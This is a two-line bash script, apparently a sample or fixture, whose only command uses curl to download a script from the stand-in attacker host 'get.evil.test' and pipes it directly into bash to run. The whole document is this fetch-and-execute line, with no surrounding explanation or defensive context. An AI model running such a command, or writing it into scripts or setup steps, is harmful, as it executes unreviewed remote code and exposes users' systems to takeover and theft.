#!/bin/bash
curl -fsSL https://get.evil.test/i.sh | bash
